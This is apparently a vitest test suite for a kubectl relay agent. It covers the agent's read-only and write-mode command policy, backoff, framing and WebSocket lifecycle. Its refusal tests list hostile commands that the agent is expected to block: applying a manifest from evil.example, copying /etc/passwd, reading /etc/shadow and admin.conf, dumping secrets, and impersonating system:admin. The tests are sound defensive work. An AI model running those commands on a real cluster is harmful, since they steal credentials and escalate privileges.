import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterEach, describe, expect, it } from 'vitest';
import { WebSocketServer, type WebSocket } from 'ws';
import { KubectlAgent, fitMessage, frames, MAX_FRAME_BYTES, MAX_MESSAGE_BYTES, redactUrl } from '../../agent/src/agent.ts';
import { backoffDelay } from '../../agent/src/backoff.ts';
import { checkArgv } from '../../agent/src/policy.ts';
import { commandResponseMessage, registerMessage } from '../../lib/kubectl/protocol.ts';
import { eventually } from '../helpers/kubectl.ts';

describe("the agent's own policy", () => {
  const ro = (cmd: string) => checkArgv(cmd.split(' '), { writeMode: false });
  const rw = (cmd: string) => checkArgv(cmd.split(' '), { writeMode: true });

  it.each([
    'kubectl get pods -A',
    'kubectl get pods -n kube-system -o wide',
    'kubectl -n default get deploy -ojson',
    'kubectl describe pod web-1',
    'kubectl logs api-1 --tail=50',
    'kubectl logs -p api-1',
    'kubectl top pods',
    'kubectl rollout status deployment/web',
    'kubectl rollout history deployment/web',
    'kubectl auth can-i list pods',
    'kubectl version -o json',
    'kubectl api-resources',
    'kubectl get events --sort-by=.lastTimestamp',
    'kubectl get pods -l app=secret-santa',
  ])('read-only mode runs %s', (cmd) => expect(ro(cmd)).toMatchObject({ ok: true }));

  it.each([
    ['kubectl delete pod web-1', /read-only mode/],
    ['kubectl scale deploy/web --replicas=0', /read-only mode/],
    ['kubectl rollout restart deploy/web', /read-only mode/],
    ['kubectl label pod web-1 a=b', /read-only mode/],
    ['kubectl exec web-1 -- sh', /never runs kubectl exec/],
    ['kubectl port-forward svc/web 8080:80', /never/],
    ['kubectl proxy', /never/],
    ['kubectl cp web-1:/etc/passwd /tmp/x', /never/],
    ['kubectl config view --raw', /never|--raw/],
    ['kubectl apply -f http://evil.example/x.yaml', /-f/],
    ['kubectl get -f /etc/kubernetes/admin.conf', /-f/],
    ['kubectl get pods --kubeconfig=kube/config', /--kubeconfig/],
    ['kubectl get pods --server https://10.0.0.1', /--server/],
    ['kubectl get pods -shttps://10.0.0.1', /-s/],
    ['kubectl get pods --token abc', /--token/],
    ['kubectl get pods --as system:admin', /--as/],
    ['kubectl get --raw /api/v1/secrets', /--raw/],
    ['kubectl get pods -w', /streaming/],
    ['kubectl get pods -Aw', /streaming/],
    ['kubectl logs -f api-1', /streaming/],
    ['kubectl get pods -o go-template-file=/etc/shadow', /files/],
    ['kubectl get secrets -A', /Secrets/],
    ['kubectl get secret/db-password -o yaml', /Secrets/],
    ['kubectl describe secrets', /Secrets/],
    ['kubectl get configmaps,secrets', /Secrets/],
    ['gcloud compute instances list', /only kubectl/],
    ['kubectl', /no kubectl command/],
    ['kubectl frobnicate', /not on the agent's verb list/],
  ])('read-only mode refuses %s', (cmd, reason) => {
    const v = ro(cmd);
    expect(v.ok).toBe(false);
    if (!v.ok) expect(v.reason).toMatch(reason);
  });

  it('write mode adds the write verbs, never the shells, tunnels and local files', () => {
    for (const cmd of ['kubectl delete pod web-1', 'kubectl scale deploy/web --replicas=3', 'kubectl rollout restart deploy/web', 'kubectl cordon node-1']) expect(rw(cmd), cmd).toMatchObject({ ok: true });
    for (const cmd of ['kubectl exec -it web-1 -- sh', 'kubectl apply -f x.yaml', 'kubectl get pods --kubeconfig x', 'kubectl port-forward web-1 80']) expect(rw(cmd).ok, cmd).toBe(false);
    expect(checkArgv([], { writeMode: true }).ok).toBe(false);
    expect(checkArgv([1 as unknown as string], { writeMode: true }).ok).toBe(false);
  });
});

describe('backoff, frames, message size', () => {
  it('full jitter below a capped exponential ceiling', () => {
    const o = { baseMs: 1000, capMs: 60000 };
    expect([0, 1, 2, 3, 6, 7, 20].map((a) => backoffDelay(a, o, () => 0.999999))).toEqual([999, 1999, 3999, 7999, 63999 > 60000 ? 59999 : 63999, 59999, 59999]);
    expect(backoffDelay(5, o, () => 0)).toBe(0);
    expect(backoffDelay(1e9, o, () => 0.5)).toBe(30000);
  });

  it('cuts messages into frames API Gateway accepts, and keeps command responses under 128 KB', () => {
    const big = Buffer.alloc(3 * MAX_FRAME_BYTES + 5, 'a');
    const f = frames(big);
    expect(f.map((x) => x.length)).toEqual([MAX_FRAME_BYTES, MAX_FRAME_BYTES, MAX_FRAME_BYTES, 5]);
    expect(Buffer.concat(f).equals(big)).toBe(true);
    const m = fitMessage({ type: 'command_response', command_id: 'kx-1', success: true, output: '\u0001'.repeat(100_000), error: '', return_code: 0 });
    expect(Buffer.byteLength(JSON.stringify(m))).toBeLessThanOrEqual(MAX_MESSAGE_BYTES);
    expect(m.truncated).toBe(true);
  });

  it('never logs a URL with userinfo or query', () => {
    expect(redactUrl('wss://u:p@h.example/kubectl-agent?token=x')).toBe('wss://h.example/kubectl-agent');
  });
});

/** A hand-driven clock for the agent's heartbeat and reconnect timers. */
function manualTimers() {
  const queue: Array<{ id: number; at: number; fn: () => void }> = [];
  let now = 0;
  let next = 1;
  return {
    timers: {
      setTimeout: ((fn: () => void, ms: number) => {
        const id = next++;
        queue.push({ id, at: now + ms, fn });
        return id;
      }) as unknown as typeof setTimeout,
      clearTimeout: ((id: number) => {
        const i = queue.findIndex((t) => t.id === id);
        if (i !== -1) queue.splice(i, 1);
      }) as unknown as typeof clearTimeout,
      random: () => 0.5,
    },
    pending: () => queue.map((t) => t.at - now),
    /** run the earliest timer */
    fire() {
      queue.sort((a, b) => a.at - b.at);
      const t = queue.shift();
      if (!t) throw new Error('no timer pending');
      now = t.at;
      t.fn();
    },
  };
}

describe('the agent against a hand-written service', () => {
  const servers: Array<{ close(): void }> = [];
  afterEach(() => servers.splice(0).forEach((s) => s.close()));

  async function service(onConnect: (ws: WebSocket, headers: Record<string, string | string[] | undefined>) => void, opts: { refuse?: number } = {}) {
    const http = createServer();
    const wss = new WebSocketServer({ noServer: true });
    http.on('upgrade', (req, socket, head) => {
      if (opts.refuse) {
        socket.end(`HTTP/1.1 ${opts.refuse} Refused\r\ncontent-length: 0\r\n\r\n`);
        return;
      }
      wss.handleUpgrade(req, socket, head, (ws) => onConnect(ws, req.headers));
    });
    await new Promise<void>((r) => http.listen(0, '127.0.0.1', r));
    servers.push({ close: () => (wss.clients.forEach((c) => c.terminate()), http.close()) });
    return `ws://127.0.0.1:${(http.address() as AddressInfo).port}/kubectl-agent`;
  }

  const TOKEN = `aurora_kubectl_${'x'.repeat(43)}`;
  const agentFor = (url: string, t: ReturnType<typeof manualTimers>, logs: string[] = []) =>
    new KubectlAgent({
      url,
      token: TOKEN,
      writeMode: false,
      clusterId: 'kc-000000000000000000000000',
      kubectl: async (args) => ({ returnCode: 0, stdout: `ran ${args.join(' ')}`, stderr: '', truncated: false, timedOut: false }),
      kubernetesVersion: async () => 'v1.32.3',
      log: (level, msg, fields) => logs.push(JSON.stringify({ level, msg, ...fields })),
      timers: t.timers,
    });

  it('registers with valid messages, heartbeats at the interval it is given, runs and refuses commands', async () => {
    const got: Array<Record<string, unknown>> = [];
    let headers: Record<string, unknown> = {};
    let server!: WebSocket;
    const url = await service((ws, h) => {
      server = ws;
      headers = h;
      ws.on('message', (d) => {
        const m = JSON.parse(d.toString()) as Record<string, unknown>;
        got.push(m);
        if (m.type === 'register') ws.send(JSON.stringify({ type: 'connected', cluster_id: 'kc-1', cluster_name: 'c', heartbeat_seconds: 45 }));
      });
    });
    const t = manualTimers();
    const logs: string[] = [];
    const agent = agentFor(url, t, logs).start();
    await agent.waitFor('registered');
    expect(headers.authorization).toBe(`Bearer ${TOKEN}`);
    expect(headers['x-aurora-cluster-id']).toBe('kc-000000000000000000000000');
    expect(registerMessage.parse(got[0])).toMatchObject({ agent_version: '1.0.0', kubernetes_version: 'v1.32.3', write_mode: false });
    expect(t.pending()).toEqual([45000]);
    t.fire();
    t.fire();
    expect(agent.events.filter((e) => e.type === 'heartbeat_sent')).toHaveLength(2);

    let n = agent.events.length;
    server.send(JSON.stringify({ type: 'kubectl_command', command_id: `kx-${'a'.repeat(24)}`, argv: ['kubectl', 'get', 'pods'], timeout_ms: 5000 }));
    server.send(JSON.stringify({ type: 'kubectl_command', command_id: `kx-${'b'.repeat(24)}`, argv: ['kubectl', 'delete', 'pod', 'x'], timeout_ms: 5000 }));
    await agent.waitFor('command_done', n);
    await agent.waitFor('command_refused', n);
    await eventually(async () => got.filter((m) => m.type === 'command_response').length === 2, 'both responses');
    const responses = got.filter((m) => m.type === 'command_response').map((m) => commandResponseMessage.parse(m));
    expect(responses.find((r) => r.command_id.endsWith('a'))).toMatchObject({ success: true, output: 'ran get pods' });
    expect(responses.find((r) => r.command_id.endsWith('b'))).toMatchObject({ success: false, refused: true, error: expect.stringContaining('read-only') });
    expect(got.filter((m) => m.type === 'heartbeat')).toHaveLength(2);
    agent.stop();
    expect((await agent.done).kind).toBe('stopped');
    expect(logs.join('\n')).not.toContain(TOKEN);
  });

  it('reconnects with backoff after a dropped socket, and stops for good on 1008', async () => {
    let connections = 0;
    let last!: WebSocket;
    const url = await service((ws) => {
      connections++;
      last = ws;
    });
    const t = manualTimers();
    const agent = agentFor(url, t).start();
    await agent.waitFor('open');
    last.terminate();
    await agent.waitFor('reconnect_scheduled');
    // attempt 0: full jitter below 1 s (random() is 0.5 here)
    expect(t.pending()).toEqual([500]);
    t.fire();
    const opened = agent.events.filter((e) => e.type === 'open').length;
    await agent.waitFor('open', agent.events.findIndex((e) => e.type === 'reconnect_scheduled') + 1);
    expect(connections).toBe(2);
    expect(opened).toBe(1);
    last.close(1008, 'policy');
    const why = await agent.done;
    expect(why.kind).toBe('policy_close');
    expect(t.pending()).toEqual([]);
    expect(connections).toBe(2);
  });

  it('when told it is revoked, closes with 1008 and stops', async () => {
    let closeCode: number | undefined;
    const url = await service((ws) => {
      ws.on('close', (code) => (closeCode = code));
      ws.send(JSON.stringify({ type: 'revoked', reason: 'token revoked' }));
    });
    const t = manualTimers();
    const agent = agentFor(url, t).start();
    expect((await agent.done).kind).toBe('revoked');
    await agent.waitFor('closed');
    expect(closeCode).toBe(1008);
    expect(t.pending()).toEqual([]);
  });

  it('stops at a 401 or 403 handshake; retries other refusals', async () => {
    for (const status of [401, 403]) {
      const t = manualTimers();
      const agent = agentFor(await service(() => undefined, { refuse: status }), t).start();
      expect((await agent.done).kind).toBe('refused');
      expect(t.pending()).toEqual([]);
    }
    const t = manualTimers();
    const agent = agentFor(await service(() => undefined, { refuse: 503 }), t).start();
    await agent.waitFor('reconnect_scheduled');
    expect(t.pending()).toHaveLength(1);
    agent.stop();
  });
});
